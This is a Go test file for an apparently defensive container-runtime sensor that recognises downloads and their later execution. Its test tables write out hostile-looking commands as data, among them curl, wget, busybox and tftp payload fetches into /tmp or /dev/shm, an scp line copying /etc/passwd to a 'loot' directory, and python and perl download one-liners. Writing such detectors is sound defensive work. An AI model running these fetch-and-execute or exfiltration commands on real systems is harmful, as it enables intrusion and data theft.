package nodedetect

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwarkhq/bulwark/internal/sensor/wire"
)

func TestDownloadOutputs(t *testing.T) {
	for _, tc := range []struct {
		exe  string
		args []string
		want []string
		ok   bool
	}{
		{"/usr/bin/curl", []string{"curl", "-o", "/tmp/a", "http://h/x"}, []string{"/tmp/a"}, true},
		{"/usr/bin/curl", []string{"curl", "-sSLo/tmp/b", "http://h/x"}, []string{"/tmp/b"}, true},
		{"/usr/bin/curl", []string{"curl", "--output=/tmp/c", "http://h/x"}, []string{"/tmp/c"}, true},
		{"/usr/bin/curl", []string{"curl", "-H", "X-A: b", "-sSLO", "https://h/dl/tool.bin?x=1"}, []string{"tool.bin"}, true},
		{"/usr/bin/curl", []string{"curl", "--output-dir", "/var/tmp", "-O", "https://h/a/b"}, []string{"/var/tmp/b"}, true},
		{"/usr/bin/curl", []string{"curl", "-o", "-", "http://h/x"}, nil, true},
		{"/usr/bin/curl", []string{"curl", "-fsS", "http://localhost/healthz"}, nil, true},
		{"/usr/bin/wget", []string{"wget", "-q", "http://h/bins/x86?a"}, []string{"x86"}, true},
		{"/usr/bin/wget", []string{"wget", "http://h/"}, []string{"index.html"}, true},
		{"/usr/bin/wget", []string{"wget", "-P", "/dev/shm", "http://h/p"}, []string{"/dev/shm/p"}, true},
		{"/usr/bin/wget", []string{"wget", "--output-document=/tmp/o", "http://h/p"}, []string{"/tmp/o"}, true},
		{"/usr/bin/wget", []string{"wget", "-qO-", "http://h/p"}, nil, true},
		{"/bin/busybox", []string{"busybox", "wget", "-O", "/tmp/w", "http://h/p"}, []string{"/tmp/w"}, true},
		{"/bin/busybox", []string{"wget", "http://h/p"}, []string{"p"}, true},
		{"/usr/bin/wget", []string{"wget", "--header", "Host: h", "http://h/q"}, []string{"q"}, true},
		{"/usr/bin/fetch", []string{"fetch", "-o", "/tmp/f", "http://h/f"}, []string{"/tmp/f"}, true},
		{"/usr/bin/aria2c", []string{"aria2c", "-d", "/tmp", "-o", "a", "http://h/z"}, []string{"/tmp/a"}, true},
		{"/usr/bin/tftp", []string{"tftp", "-g", "-r", "boot/pl", "10.0.0.1"}, []string{"pl"}, true},
		{"/usr/bin/tftp", []string{"tftp", "-g", "-r", "pl", "-l", "/tmp/pl", "10.0.0.1"}, []string{"/tmp/pl"}, true},
		{"/usr/bin/scp", []string{"scp", "-P", "2222", "u@h:/srv/tool", "/tmp/"}, []string{"/tmp/", "/tmp/tool"}, true},
		{"/usr/bin/scp", []string{"scp", "/etc/passwd", "u@h:/loot/"}, nil, true},
		{"/usr/bin/python3", []string{"python3", "-c", "import urllib.request;urllib.request.urlretrieve('http://h/x','/tmp/x')"}, nil, true},
		{"/usr/bin/perl", []string{"perl", "-e", "use LWP::Simple; getstore('http://h/x','/tmp/x')"}, nil, true},
		{"/usr/bin/python3", []string{"python3", "app.py"}, nil, false},
		{"/bin/ls", []string{"ls", "-la"}, nil, false},
		{"/usr/bin/curl", nil, nil, true},
		{"", nil, nil, false},
	} {
		got, ok := downloadOutputs(tc.args, tc.exe)
		if ok != tc.ok || !cmp.Equal(tc.want, got) {
			t.Errorf("downloadOutputs(%q, %q) = %q, %v; want %q, %v", tc.exe, tc.args, got, ok, tc.want, tc.ok)
		}
	}
}

func TestDownloadMatching(t *testing.T) {
	d := newDownloads(10, 15*time.Minute)
	ctr := &wire.Container{ID: "c"}
	exec := func(at time.Duration, p wire.Process) (bool, string) {
		return d.observe(&wire.Event{Kind: wire.KindExec, Time: t0.Add(at), Container: ctr, Process: p}, "n")
	}
	exec(0, wire.Process{Exe: "/usr/bin/wget", Args: []string{"wget", "http://h/run.sh"}})
	exec(time.Second, wire.Process{Exe: "/usr/bin/curl", Args: []string{"curl", "-o", "/opt/app/bin/x", "http://h/x"}})
	for _, tc := range []struct {
		name string
		at   time.Duration
		p    wire.Process
		want bool
	}{
		{"relative download run by path", time.Minute, wire.Process{Exe: "/root/run.sh"}, true},
		{"relative download run as ./", time.Minute, wire.Process{Exe: "./run.sh"}, true},
		{"script given to sh", time.Minute, wire.Process{Exe: "/bin/sh", Args: []string{"sh", "-x", "run.sh"}}, true},
		{"sh -c naming the file", time.Minute, wire.Process{Exe: "/bin/sh", Args: []string{"sh", "-c", "run.sh"}}, false},
		{"absolute download", time.Minute, wire.Process{Exe: "/opt/app/bin/x"}, true},
		{"absolute download via other dir", time.Minute, wire.Process{Exe: "/other/bin/x"}, false},
		{"other name", time.Minute, wire.Process{Exe: "/root/ran.sh"}, false},
		{"drifted binary after a downloader", time.Minute, wire.Process{Exe: "/tmp/y", Drift: true}, true},
		{"exec before the download", -time.Minute, wire.Process{Exe: "/opt/app/bin/x"}, false},
		{"after the window", 20 * time.Minute, wire.Process{Exe: "/opt/app/bin/x"}, false},
	} {
		if got, _ := exec(tc.at, tc.p); got != tc.want {
			t.Errorf("%s: downloaded %v, want %v", tc.name, got, tc.want)
		}
	}
	_, src := exec(time.Minute, wire.Process{Exe: "/opt/app/bin/x"})
	if src != "curl -o /opt/app/bin/x http://h/x" {
		t.Errorf("source %q", src)
	}
}

func TestHostileDownloadArgs(t *testing.T) {
	long := strings.Repeat("/a", wire.MaxArgBytes/2)
	d := newDownloads(10, time.Minute)
	ev := &wire.Event{Kind: wire.KindExec, Time: t0, Process: wire.Process{Exe: "/usr/bin/curl", Args: []string{"curl", "-o", long, "-o"}}}
	d.observe(ev, "n")
	e, _ := d.byCtr.Get("h/n")
	if len(e.Val.files) != 1 || len(e.Val.lastSource) > maxSourceBytes+len("…") {
		t.Errorf("remembered %d files, source of %d bytes", len(e.Val.files), len(e.Val.lastSource))
	}
	if ok, _ := d.observe(&wire.Event{Kind: wire.KindExec, Time: t0, Process: wire.Process{Exe: long}}, "n"); !ok {
		t.Error("a long downloaded path is not matched")
	}
}

func FuzzDownloadOutputs(f *testing.F) {
	f.Add("/usr/bin/curl", "curl\x00-sSLo\x00/tmp/x\x00http://h/x")
	f.Add("/bin/busybox", "busybox\x00wget\x00-O")
	f.Add("/usr/bin/scp", "scp\x00h:\x00.")
	f.Add("/usr/bin/tftp", "tftp\x00-g\x00-r")
	f.Fuzz(func(t *testing.T, exe, args string) {
		outs, _ := downloadOutputs(strings.Split(args, "\x00"), exe)
		for _, o := range outs {
			if len(o) > len(args)+len("index.html")+1 {
				t.Errorf("output %q longer than the arguments", o)
			}
		}
	})
}

func FuzzParseList(f *testing.F) {
	f.Add([]byte("# c\npool.example.com\n*.x.org  # y\n!z.net\n"))
	f.Add([]byte("a..b\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		entries, err := ParseList(data, "fuzz")
		if err != nil {
			return
		}
		for _, e := range entries {
			if _, err := normalizeEntry(e); err != nil {
				t.Errorf("entry %q does not round-trip: %v", e, err)
			}
		}
	})
}

func FuzzParseRules(f *testing.F) {
	f.Add([]byte(validRule))
	f.Add([]byte("rules:\n  - 1\n  - {id: x, state: []}\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rules, err := ParseRules(data, "fuzz")
		if err != nil {
			return
		}
		for _, r := range rules {
			if r.ID == "" || r.Match == "" {
				t.Errorf("accepted rule without id or match: %+v", r)
			}
		}
	})
}
